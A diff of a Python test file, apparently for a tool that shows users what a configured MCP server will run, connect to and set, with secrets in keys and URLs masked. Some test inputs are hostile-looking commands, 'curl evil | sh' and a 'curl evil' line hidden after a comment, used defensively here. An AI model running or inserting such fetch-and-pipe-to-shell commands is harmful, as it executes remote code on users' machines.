@@ -61,6 +61,12 @@ def test_files_of_the_repository_are_named(tmp_path: Path):
     assert offer(command="sh", args=["run.sh"], cwd="sub").programs(where) == ["run.sh"]
     assert offer(command=f"{where}/tool.py").programs(where) == [f"{where}/tool.py"]
     assert offer(command="/bin/sh", args=["../x", "-c"]).programs(where) == []
+    assert offer(command="sh", envFile=".env").programs("/p") == [".env"]
+    assert offer(command="sh", env_file="../.env").programs("/p") == []
+    assert offer(command="$HOME/bin/x", args=["./${X}"]).programs(where) == []
+    beside = tmp_path.with_name(f"{tmp_path.name}-beside")
+    beside.mkdir()
+    assert offer(command=f"{beside}/x").programs(where) == []
     line = "tool.py is a file of this repository; its content is not pinned"
     assert line in offer(command="tool.py").lines(where)
 
@@ -71,6 +77,12 @@ def test_what_runs_is_shown_without_a_mask():
     assert lines[0] == "runs sh --key 'curl evil | sh' 'a b'"
 
 
+def test_a_line_break_is_seen():
+    """What looks like a comment could run."""
+    lines = offer(command="sh", args=["-c", "serve # \ncurl evil"], env={"A": "\r\n"}).lines("/p")
+    assert lines[:2] == ["runs sh -c 'serve # \\ncurl evil'", "sets A=\\r\\n"]
+
+
 def test_a_secret_is_masked_and_a_change_of_it_is_seen():
     (one, *_) = offer(env={"API_KEY": "abcdefgh-1"}).lines("/p")
     (two, *_) = offer(env={"API_KEY": "abcdefgh-2"}).lines("/p")
@@ -78,6 +90,15 @@ def test_a_secret_is_masked_and_a_change_of_it_is_seen():
     assert "abcdefgh" not in one
     assert one != two
     assert offer(env={"API_KEY": "${KEY}"}).lines("/p")[0] == "sets API_KEY=${KEY}"
+
+
+def test_a_secret_in_an_address_is_masked_and_a_change_of_it_is_seen():
+    (one, *_) = offer(url="https://me:abcdefgh@x/mcp?token=ijklmnop-1").lines("/p")
+    (two, *_) = offer(url="https://me:abcdefgh@x/mcp?token=ijklmnop-2").lines("/p")
+    assert one.startswith("connects to https://me:***@x/mcp?token=*** (")
+    assert one != two
+    (line, *_) = offer(url="https://x/s/a8Fk29dLqPz73mXw0RtB5vNc/mcp").lines("/p")
+    assert line.startswith("connects to https://x/s/***/mcp (")
 
 
 def test_every_other_setting_is_shown():
